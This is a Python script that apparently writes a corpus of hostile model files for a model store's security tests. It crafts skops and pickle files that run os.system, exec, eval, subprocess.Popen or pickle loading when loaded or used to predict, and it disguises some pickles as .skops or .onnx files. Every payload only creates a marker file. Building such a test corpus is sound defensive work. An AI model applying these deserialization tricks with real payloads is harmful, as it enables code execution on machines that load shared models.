"""Writes the hostile model files of this folder (run it by hand; the tests only read them).

Each file, if loaded or used to predict, would create the file ``HOSTILE_MARKER`` in the
working directory (or, for the two "refused on principle" files, reach for code that could).
They stand for what anyone who can register a model, or hand a file to
``modelloop serve --model``, might try. ``python tests/store/hostile/make_corpus.py`` writes
them again; the corpus is kept as files so that it does not change with the serializer.
"""

from __future__ import annotations

import functools
import io
import json
import operator
import os
import pickle
import subprocess
import sys
import zipfile
from pathlib import Path

MARKER = "HOSTILE_MARKER"
PYTHON = f"open({MARKER!r}, 'w').close()"
HERE = Path(__file__).resolve().parent


class _Reduce:
    """A pickle that calls os.system when it is unpickled."""

    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def _bundle(model):
    """What the store keeps: modelloop's model file wrapper around a bundle."""
    return {
        "format": "modelloop-model",
        "format_version": 1,
        "model": {"pipeline": model, "schema": {"columns": [{"name": "x", "role": "numeric",
                  "dtype": "float64"}]}, "task": "binary", "classes": [0, 1]},
    }  # fmt: skip


def _pipeline(func):
    import numpy as np
    from sklearn.dummy import DummyClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    X, y = np.array([[0.0], [1.0]]), np.array([0, 1])
    dummy = DummyClassifier().fit(X, y)
    step = FunctionTransformer(func=func)
    step.n_features_in_ = 1  # as if fitted on a column 'x', without calling func here
    step.feature_names_in_ = np.array(["x"], dtype=object)
    return Pipeline([("f", step), ("m", dummy)])


def _rewrite(data: bytes, edit) -> bytes:
    """A skops file with its schema.json changed by ``edit`` (a crafted file)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == "schema.json":
                schema = json.loads(body)
                edit(schema)
                body = json.dumps(schema).encode()
            dst.writestr(item, body)
    return out.getvalue()


def _constructor_call(module: str, name: str, args: list) -> dict:
    """A node that calls ``module.name(*args)`` while the file loads (skops' reduce form)."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [
                {"__class__": type(a).__name__, "__module__": "builtins",
                 "__loader__": "JsonNode", "content": json.dumps(a), "is_json": True}
                for a in args
            ],
        },
    }  # fmt: skip


def main() -> None:
    import numpy as np
    import skops.io as sio

    dumps = functools.partial(sio.dumps, compression=zipfile.ZIP_DEFLATED)
    files: dict[str, bytes] = {}
    # code run at predict time, through functions stored in the pipeline
    files["eval_partial.skops"] = dumps(_pipeline(functools.partial(eval, PYTHON, {})))
    files["exec_partial.skops"] = dumps(_pipeline(functools.partial(exec, PYTHON, {})))
    files["os_system.skops"] = dumps(_pipeline(functools.partial(os.system, f"touch {MARKER}")))
    files["subprocess_popen.skops"] = dumps(
        _pipeline(functools.partial(subprocess.Popen, ["touch", MARKER]))
    )
    files["numpy_load_pickle.skops"] = dumps(
        _pipeline(functools.partial(np.load, "payload.pkl", allow_pickle=True))
    )
    files["methodcaller_to_csv.skops"] = dumps(_pipeline(operator.methodcaller("to_csv", MARKER)))
    files["attrgetter_chain.skops"] = dumps(
        _pipeline(operator.attrgetter("__class__.__init__.__globals__"))
    )
    # the same, inside the wrapper the store writes
    files["store_eval_partial.skops"] = dumps(
        _bundle(_pipeline(functools.partial(eval, PYTHON, {})))
    )
    files["store_numpy_load_pickle.skops"] = dumps(
        _bundle(_pipeline(functools.partial(np.load, "payload.pkl", allow_pickle=True)))
    )
    # code run while the file loads: a crafted node calls a function with arguments
    plain = dumps(_bundle(_pipeline(None)))

    def at_load(module: str, name: str, args: list):
        def edit(schema: dict) -> None:
            bundle = schema["content"]["model"]["content"]
            bundle["task"] = _constructor_call(module, name, args)

        return edit

    system_at_load = at_load("posix", "system", [f"touch {MARKER}"])
    popen_at_load = at_load("subprocess", "Popen", [["touch", MARKER]])
    exec_at_load = at_load("builtins", "exec", [PYTHON])

    def object_posing_as_dict(schema: dict) -> None:  # an allowed name on a function
        schema["content"]["model"]["__module__"] = "builtins"
        schema["content"]["model"]["__class__"] = "exec"

    files["reduce_os_system_at_load.skops"] = _rewrite(plain, system_at_load)
    files["reduce_popen_at_load.skops"] = _rewrite(plain, popen_at_load)
    files["reduce_exec_at_load.skops"] = _rewrite(plain, exec_at_load)
    files["dict_node_is_exec.skops"] = _rewrite(plain, object_posing_as_dict)
    # ... and with functions of libraries that were once trusted whole (numpy, pandas)
    files["reduce_numpy_load_at_load.skops"] = _rewrite(
        plain, at_load("numpy", "load", ["payload.pkl", None, True])
    )
    files["reduce_pandas_read_pickle_at_load.skops"] = _rewrite(
        plain, at_load("pandas", "read_pickle", ["payload.pkl"])
    )
    # pickles: as themselves, and renamed to look like safe formats
    evil_pickle = pickle.dumps(_Reduce())
    files["reduce_os_system.pkl"] = evil_pickle
    files["reduce_os_system.joblib"] = evil_pickle
    files["pickle_renamed.skops"] = evil_pickle
    files["pickle_renamed.onnx"] = evil_pickle
    files["payload.pkl"] = evil_pickle  # what numpy_load_pickle.skops would unpickle
    for name, data in sorted(files.items()):
        (HERE / name).write_bytes(data)
        print(f"wrote {name} ({len(data)} bytes)", file=sys.stderr)


if __name__ == "__main__":
    main()
